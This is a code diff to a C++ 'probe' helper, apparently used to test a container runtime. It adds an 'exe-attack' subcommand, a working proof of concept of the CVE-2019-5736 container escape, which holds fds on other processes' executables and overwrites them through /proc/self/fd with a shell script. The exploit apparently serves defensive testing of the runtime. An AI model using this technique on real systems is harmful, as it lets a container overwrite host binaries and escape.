@@ -7,9 +7,9 @@
 //
 // Several subcommands can be chained in one run with a literal ";" argument:
 //   probe ids ";" caps
-// Exit status: 0 on success, 1 when the (last) subcommand reported an error,
-// 2 on usage errors.  Errors are printed on stdout as `error=ENAME` (or just
-// `ENAME` for `write`) so they can be asserted like any other output.
+// Exit status: 0, also when a subcommand reported an error: errors are printed
+// on stdout as `error=ENAME` (or just `ENAME` for `write`) and asserted like any
+// other output.  2 on usage errors; `exit N` and `kill-self` end as asked.
 #include <algorithm>
 #include <cerrno>
 #include <csignal>
@@ -433,6 +433,50 @@ int cmd_timens(const Args &) {
 
 int cmd_cgroup(const Args &) { return cmd_read({"read", "/proc/self/cgroup"}); }
 
+// exe-attack: the CVE-2019-5736 attacker.  Keeps an O_PATH fd on the exe of
+// every other visible process (not itself, not pid 1), prints "grabbed PID
+// TARGET" for each and then "ready"; on SIGUSR1 (sent once those processes are
+// gone) reopens each fd for writing through /proc/self/fd and writes to it,
+// printing "write PID ok" or "write PID ENAME".
+int cmd_exe_attack(const Args &) {
+    sigset_t set;
+    sigemptyset(&set);
+    sigaddset(&set, SIGUSR1);
+    sigprocmask(SIG_BLOCK, &set, nullptr);
+    std::vector<std::pair<int, int>> held;
+    DIR *d = opendir("/proc");
+    if (!d) return fail("", errno);
+    while (auto *e = readdir(d)) {
+        int pid = atoi(e->d_name);
+        if (pid <= 1 || pid == getpid()) continue;
+        std::string exe = "/proc/" + std::to_string(pid) + "/exe";
+        int fd = open(exe.c_str(), O_PATH | O_CLOEXEC);
+        if (fd < 0) {
+            out("open " + std::to_string(pid) + " " + ename(errno));
+            continue;
+        }
+        out("grabbed " + std::to_string(pid) + " " + readlink_s(exe));
+        held.push_back({pid, fd});
+    }
+    closedir(d);
+    out("ready");
+    int sig;
+    sigwait(&set, &sig);
+    for (auto [pid, fd] : held) {
+        std::string p = "/proc/self/fd/" + std::to_string(fd);
+        int w = open(p.c_str(), O_WRONLY | O_CLOEXEC);
+        if (w < 0) {
+            out("write " + std::to_string(pid) + " " + ename(errno));
+            continue;
+        }
+        static const char msg[] = "#!/bin/sh\necho pwned by probe\n";
+        bool ok = pwrite(w, msg, sizeof msg - 1, 0) == ssize_t(sizeof msg - 1);
+        out("write " + std::to_string(pid) + " " + (ok ? std::string("ok") : ename(errno)));
+        close(w);
+    }
+    return 0;
+}
+
 // ---- host-side helpers --------------------------------------------------------
 
 // recvtty SOCK OUT [GATE]: listen on SOCK, (wait for file GATE,) accept one
@@ -529,7 +573,7 @@ int usage() {
             "usage: probe CMD [ARGS] [; CMD [ARGS]]...\n"
             "  hostname ids caps nnp rlimit RES fds [-a] cwd tty ns mounts mount PATH\n"
             "  stat [-L] PATH write PATH [DATA] read PATH ls PATH env oom sysctl KEY pid\n"
-            "  sleep N exit N kill-self SIG signals [COUNT] timens cgroup\n"
+            "  sleep N exit N kill-self SIG signals [COUNT] timens cgroup exe-attack\n"
             "  host: recvtty SOCK OUT [GATE] fillpipe rusage CMD...\n");
     return 2;
 }
@@ -545,7 +589,8 @@ int main(int argc, char **argv) {
         {"write", cmd_write}, {"read", cmd_read}, {"ls", cmd_ls}, {"env", cmd_env},
         {"oom", cmd_oom}, {"sysctl", cmd_sysctl}, {"pid", cmd_pid}, {"sleep", cmd_sleep},
         {"exit", cmd_exit}, {"kill-self", cmd_kill_self}, {"signals", cmd_signals},
-        {"timens", cmd_timens}, {"cgroup", cmd_cgroup}, {"recvtty", cmd_recvtty},
+        {"timens", cmd_timens}, {"cgroup", cmd_cgroup}, {"exe-attack", cmd_exe_attack},
+        {"recvtty", cmd_recvtty},
         {"fillpipe", cmd_fillpipe}, {"rusage", cmd_rusage}};
     if (argc < 2) return usage();
     int rc = 0;
@@ -562,5 +607,5 @@ int main(int argc, char **argv) {
         if (rc == 2) return usage();
         cur.clear();
     }
-    return rc;
+    return rc == 1 ? 0 : rc;
 }
